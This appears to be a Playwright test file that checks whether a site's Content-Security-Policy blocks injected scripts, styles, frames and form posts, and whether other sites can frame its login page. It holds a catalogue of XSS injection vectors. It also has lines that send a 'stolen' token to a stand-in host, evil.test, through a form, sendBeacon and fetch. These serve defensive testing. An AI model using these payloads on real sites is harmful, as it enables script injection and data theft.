// Tests that the Content-Security-Policy stops content that an unknown hole lets into a page. The test puts markup into
// the site's own document, and actions of scripts into its running page. It also tries each without the policy, where
// it must take effect.
import type { Page, Route } from "@playwright/test";
import { PageWatch } from "./support/page-watch.ts";
import { expect, test } from "./support/test.ts";

const EVIL = "https://evil.test";

/** Each part that takes effect reports it, by a call of `got` or by a request. */
const markup = `
  <script src="/assets/of-the-test.js"></script>
  <img src="/favicon.svg" onload="got('inline handler')">
  <base href="${EVIL}/base/">
  <style>#marked { width: 123px }</style>
  <link rel="stylesheet" href="${EVIL}/style.css">
  <link rel="manifest" href="${EVIL}/manifest.json">
  <script>got("inline script")</script>
  <script type="module">got("inline module")</script>
  <script src="data:text/javascript,got('script in an address')"></script>
  <script src="${EVIL}/script.js"></script>
  <script nonce="" src="//evil.test/other.js"></script>
  <div id="marked" style="height: 45px"></div>
  <svg onload="got('handler of a drawing')"></svg>
  <a id="link" href="javascript:got('javascript link')">x</a>
  <iframe name="sink"></iframe>
  <iframe src="${EVIL}/frame"></iframe>
  <iframe srcdoc="<script>parent.got('script of a frame')</script>"></iframe>
  <object data="${EVIL}/object"></object>
  <form id="form" target="sink" method="post" action="${EVIL}/form"><input name="token" value="stolen"></form>`;

const sink = "require-trusted-types-for trusted-types-sink";
/** The ways to take effect, each with the beginning of the report that the browser makes when it stops it. */
const ways: Readonly<Record<string, string>> = {
  "inline script": "script-src-elem inline",
  "inline module": "script-src-elem inline",
  "javascript link": "script-src-elem inline",
  "script of a frame": "script-src-elem inline",
  "script in an address": "script-src-elem data",
  "inline handler": "script-src-attr inline",
  "handler of a drawing": "script-src-attr inline",
  "inline style": "style-src-elem inline",
  "style of an element": "style-src-attr inline",
  "/base/probe": `base-uri ${EVIL}/base/`,
  "/style.css": `style-src-elem ${EVIL}/style.css`,
  "/script.js": `script-src-elem ${EVIL}/script.js`,
  "/other.js": "script-src-elem http://evil.test/other.js",
  "/frame": `frame-src ${EVIL}`,
  "/object": `object-src ${EVIL}`,
  "/form": `form-action ${EVIL}/form`,
  eval: `${sink} eval`,
  Function: `${sink} Function`,
  "timer of text": `${sink} Window setTimeout`,
  innerHTML: `${sink} Element innerHTML`,
  insertAdjacentHTML: `${sink} Element insertAdjacentHTML`,
  DOMParser: `${sink} DOMParser parseFromString`,
  "another policy": "trusted-types trusted-types-policy mine",
  "made script": `${sink} HTMLScriptElement textContent`,
  worker: `${sink} Worker constructor`,
  "/fetch": `connect-src ${EVIL}/fetch`,
  "/beacon": `connect-src ${EVIL}/beacon`,
  "/source": `connect-src ${EVIL}/source`,
};
/** The foreign script takes effect once /script.js was loaded, so it has no report of its own. */
const tried = [...Object.keys(ways), "foreign script"];

/** Runs as the page's own script, because a policy does not apply to scripts that Playwright runs. */
const doings = `
  got("the site's own script");
  const tried = (what, run) => { try { run(); } catch {} };
  document.addEventListener("DOMContentLoaded", () => {
  const element = document.createElement("div");
  document.body.append(element);
  tried("eval", () => (0, eval)("got('eval')"));
  tried("Function", () => new Function("got('Function')")());
  tried("timer", () => setTimeout("got('timer of text')"));
  tried("innerHTML", () => { element.innerHTML = "<b id='made'></b>"; });
  if (document.getElementById("made")) got("innerHTML");
  tried("insertAdjacentHTML", () => element.insertAdjacentHTML("beforeend", "<i id='added'></i>"));
  if (document.getElementById("added")) got("insertAdjacentHTML");
  tried("parse", () => { if (new DOMParser().parseFromString("<u></u>", "text/html").querySelector("u")) got("DOMParser"); });
  tried("policy", () => { if (trustedTypes.createPolicy("mine", { createHTML: (text) => text })) got("another policy"); });
  tried("script", () => {
    const script = document.createElement("script");
    script.textContent = "got('made script')";
    document.body.append(script);
  });
  tried("worker", () => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => got("worker");
  });
  tried("fetch", () => fetch("${EVIL}/fetch", { mode: "no-cors" }).catch(() => {}));
  tried("beacon", () => navigator.sendBeacon("${EVIL}/beacon", "stolen"));
  tried("source", () => new EventSource("${EVIL}/source"));
  });`;

interface Attacked {
  /** The attacks that took effect. */
  readonly got: ReadonlySet<string>;
  /** The browser's reports of what it stopped: the directive, the address and the sample. */
  readonly stopped: readonly string[];
}

/** The ways that neither took effect nor were stopped. Each report stands for one way. */
const withoutEnd = (got: ReadonlySet<string>, stopped: readonly string[]): string[] => {
  const reports = [...stopped];
  const begun = got.has("/script.js") && !got.has("foreign script") ? ["foreign script"] : [];
  const unreported = Object.entries(ways).flatMap(([way, report]) => {
    if (got.has(way)) return [];
    const at = reports.findIndex((one) => one.startsWith(report));
    if (at === -1) return [way];
    reports.splice(at, 1);
    return [];
  });
  return [...begun, ...unreported];
};

/** Attacks a page whose document is changed on its way to the browser. */
const attack = async (page: Page, change: (headers: Record<string, string>) => void): Promise<Attacked> => {
  const got = new Set<string>();
  const stopped: string[] = [];
  await page.exposeFunction("stopped", (what: string) => void stopped.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
      (window as unknown as { stopped: (what: string) => void }).stopped(
        [effectiveDirective, blockedURI, sample].join(" ").trim(),
      );
    });
  });
  await page.context().route(`${EVIL}/**`, (route) => {
    const { pathname } = new URL(route.request().url());
    got.add(pathname);
    return route.fulfill({
      contentType: pathname.endsWith(".js") ? "text/javascript" : pathname.endsWith(".css") ? "text/css" : "text/html",
      headers: { "access-control-allow-origin": "*" },
      body: pathname === "/script.js" ? 'got("foreign script")' : "",
    });
  });
  await page.exposeFunction("got", (what: string) => void got.add(what));
  await page.route(
    (url) => url.pathname === "/bidding-info",
    async (route: Route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      change(headers);
      const html = (await response.text()).replace("<noscript>", `${markup}<noscript>`);
      await route.fulfill({ response, headers, body: html });
    },
  );
  await page.goto("/bidding-info", { waitUntil: "load" });
  await page.evaluate(() => {
    document.querySelector<HTMLAnchorElement>("#link")?.click();
    document.querySelector<HTMLFormElement>("#form")?.submit();
    void fetch("probe", { mode: "no-cors" }).catch(() => {});
    const marked = getComputedStyle(document.querySelector("#marked") ?? document.body);
    const { got } = window as unknown as { got: (what: string) => void };
    if (marked.width === "123px") got("inline style");
    if (marked.height === "45px") got("style of an element");
  });
  return { got, stopped };
};

test("the policy stops injected content, which would take effect without it", async ({ browser, server }) => {
  const run = async (change: (headers: Record<string, string>) => void, effective: readonly string[]) => {
    const page = await (await browser.newContext({ baseURL: server.url })).newPage();
    await page.route("**/assets/of-the-test.js", (route) =>
      route.fulfill({ contentType: "text/javascript", body: doings }),
    );
    const { got, stopped } = await attack(page, change);
    // Each way has an end: it took effect, or the browser reports that it stopped it.
    const ended = () => ({ effective: tried.filter((what) => got.has(what)), withoutEnd: withoutEnd(got, stopped) });
    await expect.poll(ended).toEqual({ effective, withoutEnd: [] });
    expect([...got]).toContain("the site's own script");
    await page.context().close();
  };
  await run((headers) => void delete headers["content-security-policy"], tried);
  await run(() => {}, []);
  process.stdout.write(`  ways out of a page that something got into: ${tried.length} tried, 0 bad\n`);
});

test("a page of another site cannot frame the site", async ({ browser, server }) => {
  const framed = async (change: (headers: Record<string, string>) => void): Promise<number> => {
    const page = await (await browser.newContext()).newPage();
    await page.route(`${EVIL}/**`, (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${server.url}/login"></iframe>` }),
    );
    await page.route(`${server.url}/login`, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      change(headers);
      await route.fulfill({ response, headers });
    });
    await page.goto(`${EVIL}/`, { waitUntil: "load" });
    const [, frame] = page.frames();
    const count = await (frame?.locator("#root").count() ?? 0);
    await page.context().close();
    return count;
  };
  const without = (headers: Record<string, string>) => {
    for (const name of ["content-security-policy", "x-frame-options"]) delete headers[name];
  };
  expect(await framed(without), "without its headers it could").toBe(1);
  expect(await framed(() => {})).toBe(0);
});

const breaches: Record<string, () => unknown> = {
  "text as markup": () => {
    document.body.innerHTML = "<p></p>";
  },
  "a call to elsewhere": () => void fetch("https://evil.test/").catch(() => {}),
  "a style of its own": () => document.body.setAttribute("style", "color: red"),
};

test("every browser test fails on a page that breaks the policy", async ({ browser, server }) => {
  for (const [name, breach] of Object.entries(breaches)) {
    const page = await (await browser.newContext({ baseURL: server.url })).newPage();
    const watch = new PageWatch();
    await watch.watch(page);
    await page.goto("/bidding-info");
    watch.verify();
    await page.evaluate(breach).catch(() => {});
    await expect(async () => expect(() => watch.verify()).toThrow("Content-Security-Policy"), name).toPass();
    await page.context().close();
  }
});
